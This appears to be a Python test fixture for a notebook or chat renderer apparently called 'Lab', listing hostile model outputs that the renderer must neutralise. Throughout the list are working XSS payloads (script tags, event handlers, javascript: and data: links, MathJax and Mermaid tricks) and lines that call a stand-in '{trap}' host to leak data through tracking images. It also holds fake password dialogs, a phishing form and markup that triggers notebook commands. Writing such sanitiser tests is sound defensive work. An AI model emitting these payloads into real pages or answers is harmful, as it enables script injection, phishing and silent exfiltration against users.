"""Answers of a model that was talked into harm: each would run something, fetch something, or pass for a part of Lab.

``{trap}`` is the address of a server that must not hear of any of them; ``pwned`` is the word that must not appear on
``window``.
"""

from __future__ import annotations

ANSWERS = (
    # Scripts, and what runs like one.
    "<script>window.pwned = 1</script>",
    "Hello <script src='{trap}/script.js'></script> there",
    "<SCRIPT>window.pwned = 1</SCRIPT",
    "<scr<script>ipt>window.pwned = 1</scr</script>ipt>",
    "<img src=x onerror='window.pwned = 1'>",
    "<img src={trap}/error.png onerror=window.pwned=1 onload=window.pwned=1>",
    "<svg onload='window.pwned = 1'></svg>",
    "<svg><script>window.pwned = 1</script></svg>",
    "<svg><image href='{trap}/svg.png' xlink:href='{trap}/xlink.png'/></svg>",
    "<svg><use href='{trap}/use.svg#x'/></svg>",
    "<svg><animate onbegin='window.pwned = 1' attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src='{trap}/foreign'></iframe></foreignObject></svg>",
    "<math><mtext><script>window.pwned = 1</script></mtext></math>",
    "<math href='javascript:window.pwned = 1'><mi>x</mi></math>",
    "<body onload='window.pwned = 1'>text</body>",
    "<details open ontoggle='window.pwned = 1'><summary>more</summary>text</details>",
    "<input autofocus onfocus='window.pwned = 1'>",
    "<select autofocus onfocus='window.pwned = 1'><option>x</option></select>",
    "<textarea autofocus onfocus='window.pwned = 1'></textarea>",
    "<video autoplay onloadstart='window.pwned = 1' src='{trap}/video.mp4' poster='{trap}/poster.png'></video>",
    "<audio autoplay src='{trap}/sound.mp3' oncanplay='window.pwned = 1'></audio>",
    "<video><source src='{trap}/source.mp4' onerror='window.pwned = 1'></video>",
    "<marquee onstart='window.pwned = 1'>text</marquee>",
    "<div style='animation: x 1s' onanimationstart='window.pwned = 1'>text</div>",
    "<style>@keyframes x {{}} * {{ animation: x 1s }}</style><b onanimationend='window.pwned = 1'>b</b>",
    # What frames, embeds, submits, redirects.
    "<iframe src='{trap}/frame'></iframe>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<object data='{trap}/object.swf'></object>",
    "<embed src='{trap}/embed.swf'>",
    "<meta http-equiv='refresh' content='0; url={trap}/refresh'>",
    "<base href='{trap}/'><a href='relative'>link</a><img src='relative.png'>",
    "<link rel='stylesheet' href='{trap}/style.css'><link rel='prefetch' href='{trap}/prefetch'>",
    "<form action='{trap}/form'><input name='key' value='secret'><button>Sign in again</button></form>",
    "<button data-commandlinker-command='notebook:restart-run-all' data-commandlinker-args='{{}}'>Accept</button>",
    "<a data-commandlinker-command='application:close-all' href='#'>Continue</a>",
    # Styles that fetch, or cover the page.
    "<style>body {{ background: url({trap}/body.png); display: none }}</style>",
    "<style>@import '{trap}/import.css';</style>",
    "<div style='background: url({trap}/inline.png)'>text</div>",
    "<div style='position: fixed; inset: 0; z-index: 99999; background: white'>The session has ended.</div>",
    "<div class='jp-Dialog' id='jp-main-dock-panel'><div class='jp-Dialog-content'>Enter your password</div></div>",
    "<table background='{trap}/table.png'><tr><td background='{trap}/cell.png'>x</td></tr></table>",
    # Links.
    "[click](javascript:window.pwned=1) and [again](JaVaScRiPt:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1) <a href='java\nscript:window.pwned=1'>tab</a>",
    "<a href='data:text/html,<script>opener.pwned=1</script>'>data</a> [data](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='vbscript:msgbox(1)'>vb</a> <a href='file:///etc/passwd'>file</a> <a href='blob:null/1'>blob</a>",
    "[x]: javascript:window.pwned=1\n\n[x] and <javascript:window.pwned=1>",
    "[text](<javascript:window.pwned=1> \"title\" ) <a href='{trap}/ping' ping='{trap}/pinged'>ping</a>",
    # Pictures: they would tell a stranger that the answer was read.
    "![tracking]({trap}/pixel.png?secret=abc)",
    "[![badge]({trap}/badge.svg)]({trap}/target)",
    "![ref][pic]\n\n[pic]: {trap}/reference.png 'title'",
    "<img srcset='{trap}/one.png 1x, {trap}/two.png 2x' width=1 height=1>",
    "<picture><source srcset='{trap}/picture.webp'><img src='{trap}/fallback.png'></picture>",
    "<img src='/hostile-relative.png'> ![up](../../hostile-up.png) <img src='//{trap_host}/protocol.png'>",
    "<img width=99999999 height=99999999 src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" "
    'width="99999" height="99999"><script>window.pwned=1</script></svg>\'>',
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    # MathJax.
    r"$\href{{javascript:window.pwned=1}}{{x}}$ and $$\href{{{trap}/math}}{{y}}$$",
    r"$\style{{background:url({trap}/mathstyle.png)}}{{x}}$ $\class{{jp-Dialog}}{{x}}$ $\cssId{{main}}{{x}}$",
    r"$\require{{html}}\bbox[background:url({trap}/bbox.png)]{{x}}$ $\unicode[x;background:url({trap}/u.png)]{{65}}$",
    r"$\def\x{{\x\x}}\x$ and $\newcommand{{\y}}[1]{{\y{{#1#1}}}}\y{{z}}$",
    r"$<img src=x onerror=window.pwned=1>$ and $$\text{{<script>pwned=1</script>}}$$ \(<svg onload=window.pwned=1>\)",
    # Nested and broken Markdown.
    "> " * 2000 + "<img src='{trap}/deep.png' onerror='window.pwned=1'>",
    "[" * 8000 + "](javascript:window.pwned=1)",
    "```html\n<script>window.pwned = 1</script><img src='{trap}/code.png'>\n```\n\n`<img src={trap}/inline-code.png>`",
    "```mermaid\ngraph TD; A[<img src='{trap}/mermaid.png' onerror='window.pwned=1'>]-->B; "
    'click A "javascript:window.pwned=1"\n```',
    '- ```mermaid\n  graph TD; A-->B; click A "{trap}/click"\n  ```\n'
    "- <noscript><p title='</noscript><img src={trap}/m.png onerror=window.pwned=1>'>",
    "```\"><img src='{trap}/info.png' onerror='window.pwned=1'>\ncode\n```",
)  # fmt: skip
